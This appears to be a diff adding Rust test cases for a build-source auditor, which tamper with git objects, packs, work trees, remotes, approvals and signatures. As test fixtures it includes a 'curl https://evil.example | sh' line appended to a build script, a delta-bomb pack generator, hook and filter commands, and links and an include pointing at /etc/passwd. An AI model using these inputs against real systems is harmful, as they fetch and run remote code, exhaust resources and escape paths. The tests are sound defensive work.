@@ -1,0 +1,570 @@
+//! The source snapshot: objects, work tree, remotes, approvals, signatures, Dockerfile.
+
+use super::super::case::{Case, image_tag};
+use super::super::inputs;
+use super::super::keys::Named;
+use super::super::objects::{
+    SshSigner, TREE, WHO, add_object, commit_of, loose_path, pack, pack_file, reseal, second_pack, set_head, tree,
+    work_file,
+};
+use super::super::tar::Entry;
+use super::policy::with;
+
+/// README.md of the recorded HEAD.
+const BLOB: &str = "07cb36c5a036157eb9fd8426ce2ec5fd9795c4ef";
+
+pub fn cases() -> Vec<Case> {
+    [objects(), formats(), heads(), work_tree(), repository(), approvals(), signatures(), dockerfile()]
+        .into_iter()
+        .flatten()
+        .collect()
+}
+
+fn objects() -> Vec<Case> {
+    let fails = |name: &str, about| Case::fails(name, "source-objects", about);
+    vec![
+        fails("object-other-bytes", "A loose object holds the bytes of another.").inner(|entries| {
+            let other = loose(entries, TREE).content.clone();
+            loose(entries, BLOB).content = other;
+        }),
+        fails("object-other-size", "A loose object inflates to another size than its header says.").inner(|entries| {
+            let content = super::super::objects::zlib(b"blob 4\0hello");
+            loose(entries, BLOB).content = content;
+        }),
+        fails("object-bytes-behind", "Bytes stand behind a loose object's stream.")
+            .inner(|entries| loose(entries, BLOB).content.push(0)),
+        fails("object-cut", "A loose object is cut off.").inner(|entries| {
+            loose(entries, BLOB).content.pop();
+        }),
+        fails("object-missing-blob", "A blob of HEAD is missing.").inner(|entries| remove(entries, BLOB)),
+        fails("object-missing-tree", "HEAD's tree is missing.").inner(|entries| remove(entries, TREE)),
+        fails("object-missing-commit", "HEAD's commit is missing.")
+            .inner(|entries| remove(entries, &inputs::head_commit()))
+            .expect("source-commit", "fail")
+            .expect("source-tree", "fail"),
+        fails("history-missing", "Parents are missing, and no .git/shallow says that they may be.").inner(|entries| {
+            shallow(entries);
+            entries.retain(|entry| entry.path != b"git/wallet/.git/shallow");
+        }),
+        fails("pack-byte-flipped", "A byte of the pack is changed.")
+            .inner(|entries| pack_file(entries, ".pack").content[700] ^= 1),
+        fails("pack-checksum", "The pack's checksum is another.")
+            .inner(|entries| *pack_file(entries, ".pack").content.last_mut().unwrap() ^= 1),
+        fails("pack-cut", "The pack is cut off.").inner(|entries| pack_file(entries, ".pack").content.truncate(1000)),
+        fails("pack-version-3", "The pack says that it is of version 3.").inner(|entries| {
+            let pack = &mut pack_file(entries, ".pack").content;
+            pack[7] = 3;
+            reseal(pack);
+        }),
+        fails("index-other-crc", "The index gives an entry another CRC-32.")
+            .inner(|entries| change_index(entries, 24, 0)),
+        fails("index-other-name", "The index gives an object another name.").inner(|entries| {
+            change_index(entries, 0, 19);
+        }),
+        fails("index-other-offset", "The index leads into the middle of an entry.").inner(|entries| {
+            change_index(entries, 28, 3);
+        }),
+        fails("index-checksum", "The index's checksum is another.")
+            .inner(|entries| *pack_file(entries, ".idx").content.last_mut().unwrap() ^= 1),
+        fails("index-without-pack", "There is an index without its pack.").inner(|entries| {
+            let index = pack_file(entries, ".idx").content.clone();
+            entries.push(Entry::file("git/wallet/.git/objects/pack/pack-0.idx", index));
+        }),
+        Case::good("good-pack-without-index", "The pack has no index: its entries are found without one.")
+            .inner(|entries| entries.retain(|entry| !entry.path.ends_with(b".idx")))
+            .expect("source-objects", "pass"),
+        fails("pack-thin", "A pack has a delta whose base is in no pack.").inner(|entries| {
+            second_pack(entries, pack(&[(7, &[9; 20], &[1, 1, 0x90, 1])]));
+        }),
+        fails("pack-object-twice", "A pack holds an object twice.").inner(|entries| {
+            second_pack(entries, pack(&[(3, &[], b"twice"), (3, &[], b"twice")]));
+        }),
+        fails("pack-delta-outside", "A delta copies from behind its base.").inner(|entries| {
+            second_pack(entries, pack(&[(3, &[], b"base"), (6, &[16], &[4, 4, 0x91, 3, 4])]));
+        }),
+        fails("pack-delta-before-the-pack", "A delta's base lies before the pack's beginning.").inner(|entries| {
+            second_pack(entries, pack(&[(6, &[0x7f], &[4, 4, 0x90, 4])]));
+        }),
+        fails("pack-delta-bomb", "A few bytes of deltas make a gigabyte.")
+            .inner(|entries| second_pack(entries, delta_bomb()))
+            .arguments(&["--key", "key.pem", "--limit", "git_inflated_bytes=64M"]),
+        Case::good("good-unreachable-object", "The repository has an object that nothing leads to.")
+            .inner(|entries| drop(add_object(entries, "blob", b"nobody names this")))
+            .expect("source-objects", "pass"),
+        Case::good(
+            "good-malformed-elsewhere",
+            "An object that nothing leads to hashes right and is malformed: a detail.",
+        )
+        .inner(|entries| drop(add_object(entries, "tree", &tree(&[("100644", "..", BLOB)]))))
+        .expect("source-objects", "pass"),
+    ]
+}
+
+/// Ten objects of a hundred megabytes each, made of one of 64 kilobytes.
+fn delta_bomb() -> Vec<u8> {
+    let base = vec![0; 0x1_0000];
+    let size = |mut size: usize| {
+        let mut bytes = Vec::new();
+        while size > 0x7f {
+            bytes.push((size & 0x7f) as u8 | 0x80);
+            size >>= 7;
+        }
+        bytes.push(size as u8);
+        bytes
+    };
+    let delta = [size(0x1_0000), size(1600 * 0x1_0000), vec![0x80; 1600]].concat();
+    let mut entries: Vec<(u8, Vec<u8>, &[u8])> = vec![(3, Vec::new(), &base)];
+    // Each entry: two bytes of header, three of distance, the stream with eleven bytes around the delta.
+    let mut distance = 3 + base.len() + 16;
+    for _ in 0..10 {
+        let mut digits = vec![(distance & 0x7f) as u8];
+        let mut rest = distance >> 7;
+        while rest > 0 {
+            rest -= 1;
+            digits.insert(0, 0x80 | (rest & 0x7f) as u8);
+            rest >>= 7;
+        }
+        let header = 2;
+        distance += header + digits.len() + delta.len() + 11;
+        entries.push((6, digits, &delta));
+    }
+    let entries: Vec<(u8, &[u8], &[u8])> =
+        entries.iter().map(|(kind, base, content)| (*kind, base.as_slice(), *content)).collect();
+    pack(&entries)
+}
+
+fn loose<'e>(entries: &'e mut [Entry], id: &str) -> &'e mut Entry {
+    let path = loose_path(id);
+    entries.iter_mut().find(|entry| entry.path == path.as_bytes()).unwrap()
+}
+
+fn remove(entries: &mut Vec<Entry>, id: &str) {
+    let path = loose_path(id);
+    entries.retain(|entry| entry.path != path.as_bytes());
+}
+
+fn shallow(entries: &mut Vec<Entry>) {
+    entries.retain(|entry| !entry.path.starts_with(b"git/wallet"));
+    entries.extend(inputs::repository(inputs::SHALLOW));
+}
+
+/// Changes a byte of the first object's fields, which begin behind `columns` bytes for each object.
+fn change_index(entries: &mut [Entry], columns: usize, at: usize) {
+    let index = &mut pack_file(entries, ".idx").content;
+    let count = usize::from(index[8 + 255 * 4 + 3]);
+    let start = match columns {
+        0 => 0,
+        24 => 20 * count,
+        _ => 24 * count,
+    };
+    index[8 + 1024 + start + at] ^= 1;
+    reseal(index);
+}
+
+/// Repositories that would show git other objects than those that are hashed.
+fn formats() -> Vec<Case> {
+    let with_file = |name: &str, about, path: &'static str, content: &'static str| {
+        Case::fails(name, "source-objects", about).inner(move |entries| {
+            entries.retain(|entry| entry.path != format!("git/wallet/.git/{path}").into_bytes());
+            entries.push(Entry::file(format!("git/wallet/.git/{path}"), content));
+        })
+    };
+    let replace = format!("git/wallet/.git/refs/replace/{}", inputs::head_commit());
+    vec![
+        with_file("git-alternates", "Objects may come from outside.", "objects/info/alternates", "/srv/git/objects\n"),
+        with_file("git-grafts", "Grafts give a commit other parents.", "info/grafts", "b0398d3eeb1921c4b063ea213713c42e0c584a70\n"),
+        with_file("git-commondir", "The git directory is elsewhere.", "commondir", "../../other\n"),
+        with_file("git-sha256", "The objects are SHA-256 ones.", "config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tobjectFormat = sha256\n"),
+        with_file("git-partial-clone", "Objects may be missing: a partial clone.", "config", "[extensions]\n\tpartialClone = origin\n"),
+        with_file("git-unknown-extension", "The config names an extension that is not known.", "config", "[extensions]\n\tnewThing = true\n"),
+        with_file("git-work-tree-elsewhere", "The config puts the work tree elsewhere.", "config", "[core]\n\tworktree = /etc\n"),
+        with_file("git-config-malformed", "The config cannot be read.", "config", "[core\n"),
+        with_file("git-shallow-malformed", ".git/shallow holds no commit ids.", "shallow", "everything\n"),
+        with_file("git-ref-malformed", "A branch holds no commit id.", "refs/heads/bad", "HEAD\n"),
+        with_file("git-ref-to-nothing", "A branch leads to an object that is not there.", "refs/heads/bad", "1111111111111111111111111111111111111111\n"),
+        Case::fails("git-replace-ref", "source-objects", "A replace ref shows another commit than HEAD's.")
+            .inner(move |entries| entries.push(Entry::file(replace, "ae216163cffcebdd31cde54d045da5617d67a40a\n"))),
+        Case::fails("git-link-below", "source-objects", "A link below .git leads out of the archive.")
+            .inner(|entries| entries.push(Entry::link(b'2', "git/wallet/.git/objects/aa", "/srv/git/objects"))),
+        Case::fails("git-is-a-file", "source-objects", ".git is a file that leads elsewhere, at the top of the repository.").inner(|entries| {
+            entries.retain(|entry| !entry.path.starts_with(b"git/wallet/.git"));
+            entries.push(Entry::file("git/wallet/.git", "gitdir: /srv/git/wallet.git\n"));
+        }),
+        Case::good("good-hooks-and-filters", "Hooks, filters, a file-system monitor and includes stand in the config: none is run or followed.")
+            .inner(|entries| {
+                entries.push(Entry { mode: 0o755, ..Entry::file("git/wallet/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/hook\n") });
+            })
+            .text("git/wallet/.git/config", |text| {
+                format!("{text}[core]\n\tfsmonitor = touch /tmp/monitor\n\thooksPath = /tmp\n[filter \"x\"]\n\tsmudge = touch /tmp/filter\n[include]\n\tpath = /etc/passwd\n")
+            })
+            .expect("source-objects", "pass")
+            .expect("source-tree", "pass"),
+        Case::good("good-shallow-named", "A shallow clone: the boundary is named.")
+            .inner(shallow)
+            .expect("source-objects", "pass")
+            .expect("source-tree", "pass"),
+    ]
+}
+
+/// HEAD's commit and tree, malformed.
+fn heads() -> Vec<Case> {
+    let commit = |name: &str, about, text: &dyn Fn(&str) -> String| {
+        let content = text(&commit_of(TREE));
+        Case::fails(name, "source-objects", about).inner(move |entries| {
+            let id = add_object(entries, "commit", content.as_bytes());
+            set_head(entries, &id);
+        })
+    };
+    let with_tree = |name: &str, about, content: Vec<u8>| {
+        Case::fails(name, "source-objects", about).inner(move |entries| {
+            let tree = add_object(entries, "tree", &content);
+            let id = add_object(entries, "commit", commit_of(&tree).as_bytes());
+            set_head(entries, &id);
+        })
+    };
+    vec![
+        commit("commit-two-trees", "HEAD's commit has two tree headers.", &|text| format!("tree {TREE}\n{text}")),
+        commit("commit-late-tree", "HEAD's commit has a second tree header after its others.", &|text| {
+            text.replacen("\n\n", &format!("\ntree {TREE}\n\n"), 1)
+        }),
+        commit("commit-headers-out-of-order", "HEAD's commit names its committer first.", &|_| {
+            format!("tree {TREE}\ncommitter {WHO}\nauthor {WHO}\n\nx\n")
+        }),
+        commit("commit-nul-in-header", "HEAD's commit has a NUL byte in a header.", &|text| {
+            text.replacen("Ada", "A\0a", 1)
+        }),
+        commit("commit-nul-in-message", "HEAD's commit has a NUL byte in its message.", &|text| {
+            format!("{text}\0hidden")
+        }),
+        commit("commit-without-author", "HEAD's commit has no author.", &|_| {
+            format!("tree {TREE}\ncommitter {WHO}\n\nx\n")
+        }),
+        with_tree("tree-unsorted", "HEAD's tree is not sorted.", tree(&[("100644", "b", BLOB), ("100644", "a", BLOB)])),
+        with_tree(
+            "tree-name-twice",
+            "HEAD's tree has a name twice.",
+            tree(&[("100644", "a", BLOB), ("100644", "a", BLOB)]),
+        ),
+        with_tree("tree-file-and-folder", "HEAD's tree has a file and a folder of one name.", {
+            tree(&[("100644", "a", BLOB), ("100644", "a.b", BLOB), ("40000", "a", TREE)])
+        }),
+        with_tree("tree-dot-git", "HEAD's tree has an entry .git.", tree(&[("100644", ".git", BLOB)])),
+        with_tree(
+            "tree-dot-git-mac",
+            "HEAD's tree has an entry that macOS takes for .git.",
+            tree(&[("100644", ".g\u{200c}it", BLOB)]),
+        ),
+        with_tree("tree-dot-dot", "HEAD's tree has an entry ..", tree(&[("100644", "..", BLOB)])),
+        with_tree("tree-absolute", "HEAD's tree has an absolute name.", tree(&[("100644", "/etc/passwd", BLOB)])),
+        with_tree("tree-mode-padded", "HEAD's tree has a mode with a zero before it.", tree(&[("0100644", "a", BLOB)])),
+        with_tree("tree-blob-as-folder", "HEAD's tree calls a blob a folder.", tree(&[("40000", "a", BLOB)])),
+        with_tree("tree-cut", "HEAD's tree is cut off.", tree(&[("100644", "a", BLOB)])[..20].to_vec()),
+    ]
+}
+
+fn work_tree() -> Vec<Case> {
+    let fails = |name: &str, about| Case::fails(name, "source-tree", about);
+    let allow = |case: Case, patterns: &str| {
+        let policy = with(&format!("[expect]\nuntracked = [{patterns}]\n"));
+        case.file("key.pem", Named::Server.public_pem()).policy(policy)
+    };
+    let add = |path: &'static str| {
+        move |entries: &mut Vec<Entry>| entries.push(Entry::file(format!("git/wallet/{path}"), "x\n"))
+    };
+    vec![
+        fails("tree-file-changed", "A file has other bytes than its blob.")
+            .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n")),
+        fails("tree-file-added", "A file is there that the commit does not have.").inner(add("scripts/extra.sh")),
+        fails("tree-file-missing", "A file of the commit is not there.")
+            .inner(|entries| entries.retain(|entry| entry.path != b"git/wallet/go.mod")),
+        fails("tree-file-ignored", "A file is there that a rule ignores: git status would not show it.")
+            .inner(add("build.o"))
+            .inner(|entries| entries.push(Entry::file("git/wallet/.git/info/exclude", "*.o\n"))),
+        fails("tree-exec-bit", "A file became executable.")
+            .inner(|entries| work_file(entries, "README.md").mode = 0o755),
+        fails("tree-exec-bit-lost", "A script is not executable any more.")
+            .inner(|entries| work_file(entries, "scripts/build.sh").mode = 0o644),
+        fails("tree-link-for-file", "A link stands in a file's place.").inner(|entries| {
+            *work_file(entries, "main.go") = Entry::link(b'2', "git/wallet/main.go", "/etc/passwd");
+        }),
+        fails("tree-link-elsewhere", "A link leads elsewhere.")
+            .inner(|entries| work_file(entries, "web/start.html").target = b"../../../etc/passwd".to_vec()),
+        fails("tree-file-for-link", "A file stands in a link's place.").inner(|entries| {
+            *work_file(entries, "web/start.html") = Entry::file("git/wallet/web/start.html", "index.html");
+        }),
+        fails("tree-line-ends", "A file has CR LF, which no attribute of HEAD orders.")
+            .text("git/wallet/main.go", |text| text.replace('\n', "\r\n"))
+            .inner(|entries| entries.push(Entry::file("git/wallet/.git/info/attributes", "*.go text eol=crlf\n"))),
+        fails("tree-case-twin", "A file differs from another by case only.").inner(add("readme.MD")),
+        fails("tree-submodule-elsewhere", "A submodule's .git file leads out of the archive.").inner(|entries| {
+            let root = with_submodule(entries);
+            set_head(entries, &root);
+            entries.push(Entry::file("git/wallet/lib/.git", "gitdir: ../../../../srv/git/lib.git\n"));
+        }),
+        Case::fails("tree-submodule-without-objects", "source-tree", "A submodule has files and no objects.").inner(
+            |entries| {
+                let root = with_submodule(entries);
+                set_head(entries, &root);
+                entries.push(Entry::file("git/wallet/lib/code.c", "int main;\n"));
+            },
+        ),
+        Case::good("good-hard-link", "A ref is a hard link to an equal one before it: the same file again.").inner(
+            |entries| {
+                let path = b"git/wallet/.git/refs/remotes/origin/main";
+                entries.retain(|entry| entry.path != path);
+                let (path, target) = (std::str::from_utf8(path).unwrap(), "git/wallet/.git/refs/heads/main");
+                entries.push(Entry::link(b'1', path, target));
+            },
+        ),
+        fails("tree-hard-link", "A file is a hard link to another file of the work tree.").inner(|entries| {
+            entries.retain(|entry| entry.path != b"git/wallet/main.go");
+            entries.push(Entry::link(b'1', "git/wallet/main.go", "git/wallet/go.mod"));
+        }),
+        Case::good("good-empty-folder", "An empty folder, which git does not record.")
+            .inner(|entries| entries.push(Entry::directory("git/wallet/out")))
+            .expect("source-tree", "pass"),
+        allow(
+            Case::good("good-untracked-allowed", "The policy allows what the build left behind."),
+            "\"/out/\", \"*.log\"",
+        )
+        .inner(add("out/app.bin"))
+        .inner(add("scripts/build.log"))
+        .expect("source-tree", "pass"),
+        allow(
+            Case::fails(
+                "untracked-elsewhere",
+                "source-tree",
+                "The policy allows one folder, and the file is in another of that name.",
+            ),
+            "\"/out/\"",
+        )
+        .inner(add("web/out/app.bin")),
+        allow(
+            Case::fails(
+                "untracked-changed-file",
+                "source-tree",
+                "The policy allows every untracked file, and a file of the commit is changed.",
+            ),
+            "\"*\"",
+        )
+        .text("git/wallet/main.go", |text| text.replace("8443", "8444")),
+    ]
+}
+
+/// Objects of a commit whose tree has a submodule `lib`; the answer is the commit.
+fn with_submodule(entries: &mut Vec<Entry>) -> String {
+    let root = add_object(entries, "tree", &tree(&[("160000", "lib", "3333333333333333333333333333333333333333")]));
+    add_object(entries, "commit", commit_of(&root).as_bytes())
+}
+
+fn repository() -> Vec<Case> {
+    let policy = |case: Case, repositories: &str| {
+        let policy = with(&format!("[expect]\nrepositories = [{repositories}]\n"));
+        case.file("key.pem", Named::Server.public_pem()).policy(policy)
+    };
+    let remote = |case: Case, url: &'static str| {
+        case.text("git/wallet/.git/config", move |text| text.replace("git@github.com:acme/wallet.git", url))
+    };
+    let good = |name: &str, about| Case::good(name, about).expect("source-repository", "pass");
+    vec![
+        policy(
+            good("good-repository", "The remote is one of the policy's, spelled otherwise."),
+            "\"https://github.com/acme/other\", \"https://github.com/acme/wallet\"",
+        ),
+        remote(
+            policy(
+                good("good-repository-with-token", "The remote's address holds a token, which is shown nowhere."),
+                "\"git@github.com:acme/wallet.git\"",
+            ),
+            "https://x-access-token:ghs_verySecret123@github.com/acme/wallet",
+        )
+        .absent("ghs_verySecret123"),
+        policy(
+            Case::fails("repository-other", "source-repository", "The remote is none of the policy's."),
+            "\"git@github.com:acme/other.git\"",
+        ),
+        remote(
+            policy(
+                Case::fails(
+                    "repository-other-host",
+                    "source-repository",
+                    "The remote's host only begins like the policy's.",
+                ),
+                "\"git@github.com:acme/wallet.git\"",
+            ),
+            "https://github.com.evil.example/acme/wallet.git",
+        ),
+        remote(
+            policy(
+                Case::fails(
+                    "repository-user-like-host",
+                    "source-repository",
+                    "The policy's host is the user of another host.",
+                ),
+                "\"git@github.com:acme/wallet.git\"",
+            ),
+            "https://github.com@evil.example/acme/wallet.git",
+        ),
+        remote(
+            policy(
+                Case::fails("repository-local", "source-repository", "The remote is a folder."),
+                "\"git@github.com:acme/wallet.git\"",
+            ),
+            "/srv/git/wallet.git",
+        ),
+        policy(
+            Case::fails("repository-none", "source-repository", "The config names no remote."),
+            "\"git@github.com:acme/wallet.git\"",
+        )
+        .text("git/wallet/.git/config", |text| text.replace("url =", "pushurl =")),
+        policy(
+            Case::fails("repository-log-host", "source-repository", "The log names another host."),
+            "\"git@github.com:acme/wallet.git\"",
+        )
+        .log(|text| text.replace("github_host=github.com", "github_host=github.evil.example")),
+        policy(
+            Case::error("repository-in-policy-malformed", 2, "policy", "The policy's repository is no address."),
+            "\"wallet\"",
+        ),
+    ]
+}
+
+fn approvals() -> Vec<Case> {
+    let head = inputs::head_commit();
+    let list = |record: &str| format!("repository,commit,change,approver,time\n{}\n", record.replace("HEAD", &head));
+    let good = "git@github.com:acme/wallet.git,HEAD,CHG-1,Grace Example <grace@example.com>,2026-02-27T09:00:00Z";
+    let given = |case: Case, text: String| {
+        case.file("approvals.csv", text).arguments(&["--key", "key.pem", "--approvals", "approvals.csv"])
+    };
+    let fails = |name: &str, about, from: &str, to: &str| {
+        given(Case::fails(name, "source-approved", about), list(&good.replace(from, to)))
+    };
+    let signer = SshSigner::new(1);
+    let signed_policy = with(&format!("[[signers]]\nname = \"Change board\"\nssh = \"{}\"\n", signer.public_line()));
+    let signed = |case: Case, text: String, signature: String| {
+        case.file("approvals.csv", text)
+            .file("approvals.csv.sig", signature)
+            .file("key.pem", Named::Server.public_pem())
+            .file("policy.toml", signed_policy.clone())
+            .arguments(&["--policy", "policy.toml", "--approvals", "approvals.csv"])
+    };
+    vec![
+        given(Case::good("good-approved", "Somebody else approved the commit before the build."), list(good))
+            .expect("source-approved", "pass"),
+        Case::good("good-approved-json", "The same as JSON.")
+            .file("approvals.json", format!(
+                "[{{\"repository\": \"https://github.com/acme/wallet\", \"commit\": \"{head}\", \"change\": \"CHG-1\", \"approver\": \"grace@example.com\", \"time\": \"2026-02-27T09:00:00Z\"}}]\n"
+            ))
+            .arguments(&["--key", "key.pem", "--approvals", "approvals.json"])
+            .expect("source-approved", "pass"),
+        signed(Case::good("good-approved-signed", "The list is signed by one of the policy's signers."), list(good), signer.sign("hpsb-audit-approvals", list(good).as_bytes()))
+            .expect("source-approved", "pass"),
+        signed(Case::fails("approved-signature-other-list", "source-approved", "The signature beside the list is of another list."), list(good), signer.sign("hpsb-audit-approvals", b"other")),
+        signed(Case::fails("approved-signature-other-key", "source-approved", "The list is signed by nobody of the policy's signers."), list(good), SshSigner::new(2).sign("hpsb-audit-approvals", list(good).as_bytes())),
+        signed(Case::fails("approved-signature-other-purpose", "source-approved", "The signature was made for a commit."), list(good), signer.sign("git", list(good).as_bytes())),
+        fails("approved-other-commit", "The list names another commit that begins alike.", "HEAD", "b0398d3000000000000000000000000000000000"),
+        fails("approved-other-repository", "The list names the commit in another repository.", "acme/wallet", "fork/wallet"),
+        fails("approved-by-author", "The approver is the author, by address.", "Grace Example <grace@example.com>", "BEN@example.com"),
+        fails("approved-by-author-name", "The approver is the author, by name.", "Grace Example <grace@example.com>", "ben example"),
+        fails("approved-after-build", "The approval is younger than the build.", "2026-02-27", "2026-03-03"),
+        given(Case::error("approvals-malformed", 3, "malformed", "The list has a short commit id."), list(&good.replace("HEAD", "b0398d3"))),
+        Case::rejected("approved-not-given", "The policy asks for an approval, and no list is given.")
+            .file("key.pem", Named::Server.public_pem())
+            .policy(with("[levels]\nsource-approved = \"require\"\n"))
+            .expect("source-approved", "not-run: no-evidence"),
+    ]
+}
+
+/// The build of a commit that `signer` signed over `payload`.
+fn signed_commit(case: Case, signer: &SshSigner, payload: impl Fn(&str) -> String) -> Case {
+    let commit =
+        format!("tree {TREE}\nparent {}\nauthor {WHO}\ncommitter {WHO}\n\nA signed change\n", inputs::head_commit());
+    let signed = signer.sign_commit(&commit, &payload(&commit));
+    let id = super::super::objects::object_id("commit", signed.as_bytes());
+    let (old, new) = (image_tag(), format!("v1-{}", &id[..7]));
+    let build_name = super::super::case::build_name(&new, inputs::STAMP);
+    let (old_record, new_record) = (old.clone(), new.clone());
+    case.inner(|entries| {
+        add_object(entries, "commit", signed.as_bytes());
+        set_head(entries, &id);
+    })
+    .log(move |text| text.replace(&old, &new))
+    .record(move |text| text.replace(&old_record, &new_record))
+    .build_name(build_name)
+}
+
+fn signatures() -> Vec<Case> {
+    let signer = SshSigner::new(1);
+    let policy = |case: Case, key: &SshSigner| {
+        let policy = with(&format!(
+            "[[signers]]\nname = \"Ada\"\nssh = \"{}\"\n\n[levels]\nsource-signature = \"require\"\n",
+            key.public_line()
+        ));
+        case.file("key.pem", Named::Server.public_pem()).policy(policy)
+    };
+    let fails = |name: &str, about| Case::fails(name, "source-signature", about);
+    let own = |commit: &str| commit.to_owned();
+    vec![
+        signed_commit(
+            policy(Case::good("good-signed-commit", "A signer of the policy signed HEAD's commit."), &signer),
+            &signer,
+            own,
+        )
+        .expect("source-signature", "pass")
+        .expect("source-commit", "pass"),
+        signed_commit(
+            policy(fails("signed-by-other", "Somebody else signed HEAD's commit."), &SshSigner::new(2)),
+            &signer,
+            own,
+        ),
+        signed_commit(
+            policy(fails("signed-other-bytes", "The signature is of another commit."), &signer),
+            &signer,
+            |commit| commit.replace("signed", "other"),
+        ),
+        policy(Case::rejected("signed-by-nobody", "The policy requires a signature, and there is none."), &signer)
+            .expect("source-signature", "not-run: no-evidence"),
+        Case::error("signer-malformed", 2, "policy", "A signer's key is cut off.")
+            .file("key.pem", Named::Server.public_pem())
+            .policy(with("[[signers]]\nname = \"Ada\"\nssh = \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINeH\"\n")),
+    ]
+}
+
+fn dockerfile() -> Vec<Case> {
+    let policy = |case: Case, expect: &str| {
+        let policy = with(&format!("[expect]\n{expect}\n[levels]\nsource-dockerfile = \"require\"\n"));
+        case.file("key.pem", Named::Server.public_pem()).policy(policy)
+    };
+    let fails = |name: &str, about| policy(Case::fails(name, "source-dockerfile", about), "");
+    let digest = "5a1c1f3b7d0f0c6e4d9a2b8e7f6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c";
+    vec![
+        policy(
+            Case::good("good-dockerfile", "The log's steps are the Dockerfile's."),
+            "dockerfile = \"./Dockerfile\"\n",
+        )
+        .expect("source-dockerfile", "pass"),
+        policy(
+            Case::good("good-dockerfile-base-by-digest", "Content trust put a digest in the place of the base's tag."),
+            "",
+        )
+        .log(move |text| {
+            text.replace("FROM golang:1.24-bookworm AS build", &format!("FROM golang@sha256:{digest} AS build"))
+        })
+        .expect("source-dockerfile", "pass"),
+        fails("dockerfile-other-step", "A step in the log is not the Dockerfile's.")
+            .log(|text| text.replace("RUN ./build.sh", "RUN ./build.sh --fast")),
+        fails("dockerfile-other-base", "A base in the log is not the Dockerfile's.")
+            .log(|text| text.replace("FROM debian:bookworm-slim", "FROM debian:trixie-slim")),
+        fails("dockerfile-step-missing", "A step is missing in the log.")
+            .log(|text| super::without(&text, &["Step 8/9"])),
+        fails("dockerfile-step-twice", "A step stands twice in the log.")
+            .log(|text| super::insert_before(&text, "Step 8/9", "run: Step 7/9 : COPY web /srv/web")),
+        policy(
+            Case::fails("dockerfile-missing", "source-dockerfile", "The policy's Dockerfile is not in the commit."),
+            "dockerfile = \"docker/Dockerfile\"\n",
+        ),
+        policy(Case::rejected("dockerfile-without-steps", "The log shows no steps."), "")
+            .log(|text| super::without(&text, &["Step "]))
+            .expect("source-dockerfile", "unknown"),
+    ]
+}
